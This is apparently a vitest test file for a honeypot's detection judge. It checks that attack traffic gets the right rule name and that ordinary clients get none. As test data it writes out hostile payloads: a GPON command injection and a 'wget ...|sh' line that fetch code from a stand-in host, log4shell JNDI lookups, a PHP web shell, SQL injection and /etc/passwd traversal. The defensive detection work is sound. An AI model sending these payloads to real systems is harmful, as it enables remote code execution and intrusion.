/** First verdicts: attacks in their published shapes get the right name, ordinary clients none. */
import { CONTENT_KINDS, LONGEST_QUOTE } from '@honeymesh/intel/findings';
import { describe, expect, test } from 'vitest';
import { isHostile, judgeObservation, MOST_OF_ONE, RULES } from '#enforcer/detect/judge.ts';
import { request } from '#enforcer/traps/protocols/observation.ts';
import { at, attacks, everyday, payloadOf } from '#test/support/detect-corpus.ts';

const rulesOf = (...judged: Parameters<typeof judgeObservation>): readonly string[] => judgeObservation(...judged).map(({ rule }) => rule);
const WEB = at('http', 80);

describe('attacks', () => {
  const all = attacks();

  test.each(all.map(attack => [attack.rule, attack.name, attack] as const))('%s: %s', (_rule, _name, { rule, reason, about, observation }) => {
    const findings = judgeObservation(observation, about);
    expect(findings.map(found => `${found.reason} ${found.rule}`)).toContain(`${reason} ${rule}`);
    expect(isHostile(findings)).toBe(findings.some(found => found.reason !== 'obfuscated' && found.rule !== 'password-guesser'));
  });

  test('show every rule', () => {
    const shown = new Set(all.map(({ rule }) => rule));
    expect([...new Set(RULES.map(({ name }) => name))].filter(name => !shown.has(name))).toEqual([]);
  });

  test('inside TLS are judged as outside of it', () => {
    for (const { observation, rule } of all.filter(({ about }) => about.protocol === 'http')) {
      expect(rulesOf(observation, at('https', 443))).toContain(rule);
    }
  });

  test('at a port that speaks something else are judged as what they are', () => {
    const raw =
      'POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 198.51.100.7\r\nUser-Agent: Hello, World\r\n\r\nXWebPageName=diag&dest_host=`busybox+wget+http://203.0.113.9/x`';
    for (const [protocol, name] of [
      ['tls', 'clear'],
      ['unknown', 'unknown'],
    ] as const) {
      expect(rulesOf(payloadOf(name, raw), at(protocol, 8443))).toEqual(expect.arrayContaining(['gpon', 'botnet-agent', 'shell-injection']));
    }
  });
});

describe('everyday exchanges', () => {
  test.each(everyday().map(said => [said.name, said] as const))('%s: nothing', (_name, { about, observation }) => {
    expect(judgeObservation(observation, about)).toEqual([]);
  });

  test('silence, too much and nonsense say nothing', () => {
    expect(judgeObservation({ kind: 'deadline' }, WEB)).toEqual([]);
    expect(judgeObservation({ kind: 'too-much', receivedBytes: 100_000 }, WEB)).toEqual([]);
    expect(judgeObservation({ kind: 'malformed', why: 'not HTTP' }, WEB)).toEqual([]);
  });
});

describe('what is found', () => {
  test('is bounded, the strongest first', () => {
    const target =
      "/x?a=\u0024{jndi:ldap://x}&b=../../../etc/passwd&c='+union+select+null--&d=<script>&e={{7*7}}&f=;wget+http://203.0.113.9/x|sh&g=/etc/passwd&h=php://input";
    const findings = judgeObservation(request('GET', target, [['User-Agent', 'sqlmap/1.7']]), WEB);
    expect(findings).toHaveLength(MOST_OF_ONE);
    const strengths = findings.map(({ kind }) => CONTENT_KINDS.indexOf(kind));
    expect(strengths).toEqual([...strengths].sort((one, other) => one - other));
  });

  test('quotes the words around what the rule saw', () => {
    const [found] = judgeObservation({ kind: 'command', line: `SET x ${'a'.repeat(600)} \${jndi:ldap://203.0.113.9/a} ${'b'.repeat(600)}` }, at('redis', 6379));
    expect(found?.quote).toHaveLength(LONGEST_QUOTE);
    expect(found?.quote).toContain('\u0024{jndi:ldap://203.0.113.9/a}');
  });

  test('quotes what was meant where it was hidden, and says that it was', () => {
    const findings = judgeObservation(request('GET', '/%2524%257Bjndi:ldap://x/a%257D', []), WEB);
    expect(findings.map(({ rule, quote }) => [rule, quote])).toEqual([
      ['log4shell', '/\u0024{jndi:ldap://x/a}'],
      ['hidden-words', '/%2524%257Bjndi:ldap://x/a%257D'],
    ]);
  });

  test('names each rule once, however often it speaks', () => {
    expect(rulesOf(payloadOf('body', '<?php system($_GET[1]);?>'.repeat(100)), WEB).filter(rule => rule === 'php-code')).toHaveLength(1);
  });

  test('a body with two lengths is broken on purpose, and no proof', () => {
    const findings = judgeObservation({ kind: 'malformed', why: 'contradictory body' }, WEB);
    expect(findings.map(({ rule, reason }) => [rule, reason])).toEqual([['contradictory-body', 'malformed']]);
    expect(isHostile(findings)).toBe(false);
  });
});

describe('hostile content', () => {
  test('is a guess, an order, a download, an exploit or a search for one; not what is merely hidden', () => {
    const finding = { rule: 'x', kind: 'payload', quote: '' } as const;
    for (const reason of ['brute-force', 'default-credentials', 'exploit', 'command', 'tool-transfer', 'vulnerability-scan'] as const) {
      expect(isHostile([{ ...finding, reason }])).toBe(true);
      expect(
        isHostile([
          { ...finding, reason: 'obfuscated' },
          { ...finding, reason },
        ]),
      ).toBe(true);
    }
    for (const reason of ['obfuscated', 'malformed', 'trap-touch'] as const) expect(isHostile([{ ...finding, reason }])).toBe(false);
    expect(isHostile([])).toBe(false);
  });

  test('is not the name of a tool that is about to guess: its first pair is', () => {
    const guesser = { rule: 'password-guesser', reason: 'vulnerability-scan', kind: 'payload', quote: 'hydra' } as const;
    expect(isHostile([guesser])).toBe(false);
    expect(isHostile([guesser, { rule: 'password-guess', reason: 'brute-force', kind: 'credentials', quote: 'root' }])).toBe(true);
  });
});

describe('a shell', () => {
  test('takes every line as an order, whatever it says', () => {
    for (const protocol of ['telnet', 'ssh'])
      expect(judgeObservation({ kind: 'command', line: 'xyzzy' }, at(protocol, 23)).map(({ reason }) => reason)).toEqual(['command']);
    expect(judgeObservation({ kind: 'command', line: '   ' }, at('telnet', 23))).toEqual([]);
  });

  test('of Android is one once it is opened, not when the client introduces itself', () => {
    expect(rulesOf({ kind: 'command', line: 'CNXN host::features=cmd,shell_v2' }, at('adb', 5555))).toEqual([]);
    expect(rulesOf({ kind: 'command', line: 'shell:pm path com.android.x' }, at('adb', 5555))).toEqual(['shell-command']);
    expect(rulesOf({ kind: 'command', line: 'exec:id' }, at('adb', 5555))).toEqual(['shell-command']);
  });
});

test('what the SSH trap could not read, as no message of it was whole, is no file that was brought along', () => {
  expect(rulesOf(payloadOf('unread', 'root'), at('ssh', 22))).toEqual([]);
  expect(rulesOf(payloadOf('/tmp/x', 'root'), at('ssh', 22))).toEqual(['ssh-file']);
});
